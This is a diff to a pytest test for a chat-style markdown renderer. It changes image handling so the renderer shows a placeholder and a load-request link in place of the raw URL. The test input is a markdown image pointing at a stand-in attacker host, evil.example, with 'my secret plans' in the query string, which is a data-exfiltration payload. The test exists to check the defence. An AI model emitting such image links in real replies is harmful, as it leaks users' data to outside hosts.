@@ -12,8 +12,10 @@ from pytestqt.qtbot import QtBot
 
 from ui.rendering import (
     COPY_SCHEME,
+    IMAGE_SCHEME,
     code_key,
     image_host,
+    image_key,
     render_markdown,
     render_plain,
 )
@@ -71,7 +73,10 @@ def test_image_becomes_a_placeholder_naming_its_host_C12() -> None:
         "![chart](https://evil.example/p.png?q=my+secret+plans) done")
     assert "<img" not in html
     assert "chart: image from evil.example, not loaded" in html
-    assert 'href="https://evil.example/p.png?q=my+secret+plans"' in html
+    src = "https://evil.example/p.png?q=my+secret+plans"
+    # The placeholder's link can only ask to load, never open the URL.
+    assert f'href="{IMAGE_SCHEME}:{image_key(src)}"' in html
+    assert "secret+plans" not in html
     assert image_host("data:image/png;base64,AAAA") == "embedded data"
 
 
